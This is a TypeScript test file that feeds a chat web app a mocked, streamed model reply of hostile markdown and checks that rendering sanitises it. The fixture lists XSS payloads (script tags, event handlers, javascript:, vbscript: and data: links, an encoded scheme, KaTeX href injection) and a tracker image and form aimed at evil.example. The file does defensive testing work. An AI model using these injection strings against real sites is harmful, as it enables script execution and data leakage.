import { describe, expect, it } from 'vitest'
import { type ChatPage, useApp } from './open-app.js'

const hostile = `# Hello

<script>window.harmed = 'script'</script>
<img src="x" onerror="window.harmed = 'onerror'">
<iframe srcdoc="<script>parent.harmed = 'srcdoc'</script>"></iframe>
<svg onload="window.harmed = 'svg'"></svg>
<a href="javascript:window.harmed = 'html link'">html link</a>
<form action="https://evil.example/form"><button>send</button></form>

[markdown link](javascript:window.harmed='link') [encoded](java&#115;cript:window.harmed='encoded')
[vb](vbscript:x) [data](data:text/html,<script>window.harmed='data'</script>) [fine](https://example.com/page)

![tracker](https://evil.example/pixel.png?secret=1) ![ref][r]

<https://evil.example/auto> and $\\href{javascript:window.harmed='katex'}{x}$ and $\\includegraphics{https://evil.example/k.png}$

\`\`\`html
<script>window.harmed = 'code'</script>
\`\`\`

**never closed \`neither

| broken | table
|---

[r]: https://evil.example/reference.png
`

/** Lets the model say this, in pieces of so many characters. */
async function answerWith({ page }: ChatPage, text: string, size: number): Promise<void> {
  const pieces = Array.from({ length: Math.ceil(text.length / size) }, (_, i) =>
    text.slice(i * size, (i + 1) * size),
  )
  const chunk = (delta: object, finish_reason: string | null) =>
    `data: ${JSON.stringify({ id: 'x', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta, finish_reason }] })}\n\n`
  const body = [
    ...pieces.map((content) => chunk({ content }, null)),
    chunk({}, 'stop'),
    'data: [DONE]\n\n',
  ].join('')
  await page.route('**/chat/completions', (route) =>
    route.fulfill({ status: 200, contentType: 'text/event-stream', body }),
  )
}

/** What a model may say, and what must not come of it. `root` is the folder of the app. */
export function describeSafety(root: string): void {
  const app = useApp(root, { seed: 1 })
  describe('what a model says', () => {
    it.each([5, 100_000])('runs nothing, and asks nobody, in pieces of %d characters', async (size) => {
      const chat = await app.open()
      const asked: string[] = []
      const dialogs: string[] = []
      chat.page.on('request', (request) => asked.push(request.url()))
      chat.page.on('dialog', (dialog) => dialogs.push(dialog.message()))
      await answerWith(chat, hostile, size)
      await chat.send('Be evil')
      await chat.answered()
      await chat.lastAnswer.getByRole('link', { name: 'fine' }).waitFor()

      const links = await chat.lastAnswer
        .locator('[href]')
        .evaluateAll((all) => all.map((link) => link.getAttribute('href')))
      expect(links.filter((href) => !/^https:\/\//.test(href ?? ''))).toEqual([])
      expect(await chat.lastAnswer.locator('script, iframe, form, object, embed, style, img').count()).toBe(0)
      const handlers = await chat.lastAnswer.evaluate((answer) =>
        [...answer.querySelectorAll('*')].flatMap(({ attributes }) =>
          [...attributes].map(({ name }) => name).filter((name) => name.startsWith('on')),
        ),
      )
      expect(handlers).toEqual([])
      await chat.lastAnswer.getByText('tracker').waitFor()
      for (const link of await chat.lastAnswer.getByText(/link|encoded|^vb$|^data$/).all()) await link.click()
      expect(await chat.page.evaluate('window.harmed')).toBeUndefined()
      expect(dialogs).toEqual([])
      expect(asked.filter((url) => !url.startsWith(app.address) && !url.startsWith('data:'))).toEqual([])
      expect(await chat.lastAnswer.getByRole('link', { name: 'fine' }).getAttribute('rel')).toContain(
        'noopener',
      )
    })

    it('may be one line of a megabyte: it is shown, and the page stays alive', async () => {
      const chat = await app.open()
      await answerWith(chat, `${'long '.repeat(200_000)}the end`, 50_000)
      await chat.send('Do not stop')
      await chat.answered()
      await chat.page.waitForFunction(
        () => document.querySelector('.assistant .markdown')?.textContent?.length === 1_000_007,
      )
      await chat.send('Still there?')
      await chat.page.getByText('Still there?').first().waitFor()
    })
  })
}
